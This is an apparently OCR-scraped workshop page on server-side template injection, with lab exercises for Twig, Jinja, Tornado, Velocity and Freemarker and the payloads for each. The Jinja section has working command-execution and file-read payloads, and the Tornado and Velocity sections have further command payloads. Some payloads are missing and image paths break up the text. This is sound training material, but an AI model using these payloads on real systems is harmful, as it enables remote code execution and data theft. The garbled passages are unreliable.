Welcome to this 2-hour workshop on Template Injection. Template injection, also known as Server-Side Template Injection (SSTI), is a vulnerability class that has emerged in 2015. The 2015 Black Hat talk from James Kettle established the foundations for the exploitation techniques in multiple template engines. The exploitation of this type of issue will require specific knowledge of the template library or the language being used under the hood.

The workshop is divided in six labs and an introduction. First, there will be an introduction to the vulnerability. This segment is needed to get a good understanding of theattack patterns to recognize potential vulnerabilities. Then we will investigate five different template engines with unique twists. Each template engine will have an exercise which consists of a web application with a template engine being exposed.


The only requirement is to have an HTTP interception proxy installed.

Running the applicationsIn order to do the exercise, you will need to run the lab applications by yourself. All applications were built with a docker container recipe. This should make the deployment easier.

  1. Download the code.
    $ git clone https://github.com/GoSecure/template-injection-workshop
  2. Read build instructions (%application_dir%/README.md) This step will differ for each application.
  3. Use docker-compose to start the application.
    $ docker-compose upOptional DNS configuration

In order to make the links work, you can optionally add an entry to your local host file. (/etc/hosts or C:\Windows\system32\drivers\etc\hosts)   template-injection.gosec.co

Video presentation

You can watch the complete workshop on video. From the video, you will be able to listen to all the tutorials and see the demonstrations for all exercises. Open the YouTube page in a new window to see the chapters.

A template engine enables you to use static template files in your application. At runtime, the template engine replaces variables in a template file with actual values, and transforms the template into an HTML file sent to the client. This approach makes it easier to design an HTML page.

Although the templates were deployed statically, the advent of highly configurable service (SaaS) led several template libraries to be exposed directly on the internet. These seemingly very limited libraries are actually much more powerful than some developers might think.

Template Injection

Example of Data BindingIn a template, the developer will define both static content and place holder for dynamic values. At runtime, the template will be processed by its engine to map dynamic values references in the template.

Hello {{firstName}} {{lastName}}!

Example of simple template

Template is a form of script that will do much more than just simple data binding. Because data structure can be complex (think about list and nested objects), templates provide some capabilities similar to programming. For instance, the template engine might allow to reach field from objects, .

Hello {{user.firstName}} {{user.lastName}}!

Example of nested properties

Nested properties like the above will not be evaluated directly by the language. The dynamic value user.firstName inside the place holder will be parsed by the engine. The engine will make under the hood the call to the method or field firstName. The syntax is generally simple and compact for ease of use. The syntax is often powerful enough to escape the context of simple data binding.

Thinking outside the boxIn order to abuse a template engine, the attacker will need to take advantage of the capabilities made available.

If the engine allows the access of fields, we might be able to access interesting internal data structure. Internal data structure could have interesting state to override. They may expose powerful types.

If the engine allows function calls, we are coming to target function that read files, execute commands or access internal states of the application.

The six exercises in today's workshop aim to show a variety of techniques to reach a similar goal.

There are plenty of template libraries. We can find dozens oflibraries per programming language. In practice, if we limit ourselves to the most popular, we can focus on two or three potential libraries when we know the language used.


Instead of blindly testing every known payload, it is best to confirm with some level of confidence the technology used. Thefinal payload might require some adjustments to take into account the specific runtime environment.

James Kettles as come up with this decision tree which can be used to identify the template technogoly used. It is composed of simple evaluation. Those expression will not work with every technology. Because these are very basic expression, they are less likely to become obsolete when a new version of a library is released. Method names allowed and advanced syntaxes are likely to evolve over time.Template Injection

Fig 1: Detection tree (Source PortSwigger Blog)

Twig Template


Twig is probably the most popular template library in PHP. It was developed by the creator of Synfony a very popular PHP framework. In a bonus exercise, we will use Craft CMS a content management system using internally Twig.

Template syntax basics

Twig syntax is simple and compact syntax. Here are a few examples of basic variable binding.

Hello {{ var }}
Hello {{ var|escape }}

Basic variable binding

Reference: Official Twig documentation

Opportunity for exploitation

Twig a variable _self which make public a few internal Twig API. Here is a malicious payload that was created to take advantage of the registerUndefinedFilterCallback function. In the payload below the command id is executed returning the id from the current user (Linux).


Example of command execution

Workshop exercise

For this exercise, connect to the web server http://template-injection.gosec.co:8012/.

It will contain a very simple form with only one field.

Screenshot 1

In this form, you can submit a simple expression to confirm that a template is used to display a value. The expression bellow will do a subtraction.


This subtraction should display 1337 as result


Executing the id command

The result of the id command should be:

uid=33(www-data) gid=33(www-data) groups=33(www-data)

Can you access to the file flag.txt on the server?

Jinja Template


Jinja is a popular template engine in Python. It is a template that is very similar to Django template. Compared to Django templates, Jinja can be easily used dynamically at runtime.Django templates are designed to be dynamic views which are stored in static files.

Template syntax basics

Here are few simple expressions that illustrate the basic syntax.

{{ message }}
//Accessing an attribute
{{ foo.bar }}
//Accessing an attribute (alternative)
{{ foo['bar'] }}

Basic variable binding

Reference: Official Jinja documentation

Opportunity for exploitation

Python metadata properties can be read from any Python object. Method calls are also not filtered. Accessing powerful operations such command execution is, however, not trivial.

Jinja exploitation basics

We can access the class from the metaproperties __class__.<type 'str'>

From any class, we can get the Method Resolution Order (MRO) object. The MRO object contains the hierarchy of class for the current type.


<type 'str'>, <type 'basestring'>, <type 'object'>

From the type object that we have previously found, we list all its subclasses. Effectively, enumerating all classes loaded the current context. The classes available will depends on the import made by the application. Imports can't be triggered easily in Jinja2.<type 'type'>, <type 'weakref'>, <type 'weakcallableproxy'>, <type 'weakproxy'>, <type 'int'>, <type 'basestring'>, <type 'bytearray'>, <type 'list'>, <type 'NoneType'>, <type 'NotImplementedType'>, <type 'traceback'>, <type 'super'>, <type 'xrange'>, <type 'dict'>, <type 'set'>, <type 'slice'>, <type 'staticmethod'>, <type 'complex'>, <type 'float'>, <type 'buffer'>, <type 'long'>, <type 'frozenset'>, <type 'property'>, <type 'memoryview'>, <type 'tuple'>, <type 'enumerate'>, <type 'reversed'> [...]

We can pick any type from the previous list and call methods from those. The element at index 40 in the object subclasses list is ({{''.__class__.__mro__[2].__subclasses__()[40]). We can use this type to read arbitrary files.


//The previous extension is analog to


Using subprocess.Popen

One of the powerful types to look for is subprocess.Popen.

On Python 3.8, it is likely to be index 245. This index is subject to change depending on the modules loaded.<class 'subprocess.Popen'>

On Python 2.7, it is likely to be index 245.


<class 'subprocess.Popen'>

Executing command:

{{[].__class__.__mro__[1].__subclasses__()[245]('ls /',shell=True,stdout=-1).communicate()[0].strip()}}

Alternative os object (Python 2.7)

There is an interesting type that we can be abused . It has a cache of all python modules available. From the instance we can reach the os module.


<module 'os' from '/usr/lib/python2.7/os.pyc'>

Source: https://hexplo.it/escaping-the-csawctf-python-sandbox/

Applying this interesting pattern to Jinja template. We have the following payload.

{{''.__class__.__mro__[2].__subclasses__()[59].__init__.func_globals['linecache'].__dict__.values()[12].system('id > /tmp/cmd')}}

Here is a two-step payload that executes a command and store the result temporarily in the temp folder. The result is later read from another Jinja expression.

{{''.__class__.__mro__[2].__subclasses__()[59].__init__.func_globals['linecache'].__dict__.values()[12].system('id > /tmp/cmd') }}{{''.__class__.__mro__[2].__subclasses__()[40]("/tmp/cmd","r").read() }}

Workshop exercise

For this exercise, connect to the web server http://template-injection.gosec.co:8013/.

Jinja Template

First, you must detect which HTTP parameter is placed inside a template. You can use simple arithmetic expressions for this.

Use the above recipe to leverage the vulnerability to its full potential.

Can you access to the file flag.txt on the server?

Tornado Template


Tornado template is an engine that is part of Tornado a popular Python web framework. This exercise will probably be the easiest. It should demonstrate that simply reading the library documentation can sometimes reveal powerful functionalities.

Template syntax basics

Hello {{userName}}

Basic data binding

Exploitation opportunity

It is much easier that Jinja2. Because it supports the import directive. The implementation of this directive is analog to the Python import.

{%import os%}

Here is a complete payload which imports the os module and execute the method popen (process open).

{%import os%}Workshop exercise

For this exercise, connect to the web server http://template-injection.gosec.co:8014/.

Tornado Template

This service is simulating an email being sent every time you submit the form.

Use the above recipe to leverage the vulnerability.

Can you access to the file flag.txt on the server?

Velocity Template


Velocity is one of the most popular Java template engines. Freemarker is another very popular alternative. Velocity was chosen for this workshop because it is a bit harder to exploit.

Template syntax basics

Reference: Official Velocity documentation

Opportunity for exploitation

The original payload found by James Kettles requires the activation of an optional plugin called ClassTool.


Velocity has variable assignment.

#set( $foo = "bar" )


This pattern is used to access interesting types. Here is a payload that allow the execution of command without any optional plugin.


#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end

Workshop exerciseFor this exercise, connect to the web server http://template-injection.gosec.co:8005/.

To access the administrative features, use the credentials admin / 123456.

Velocity application

Use the above recipe to leverage the vulnerability.

Can you access to the file flag.txt on the server?

Freemarker Template


Freemarker is another popular Java template engine. Its development is slightly more active than Velocity.Template syntax basics



Reference: Official Freemarker documentation

Opportunity forexploitation


Freemarker has a specific list of built-in function (often called built-in in Freemarker documentation). These built-in functions can be suffixes to variable. For example, ${nbAverageUsers} can be transformed to ${nbAverageUsers?abs}.

abs, absoluteTemplateName, ancestors, api,
boolean, byte,
c, capFirst, capitalize, ceiling, children, chopLinebreak, chunk, contains, counter,
date, dateIfUnknown, datetime, datetimeIfUnknown, default, double, dropWhile,
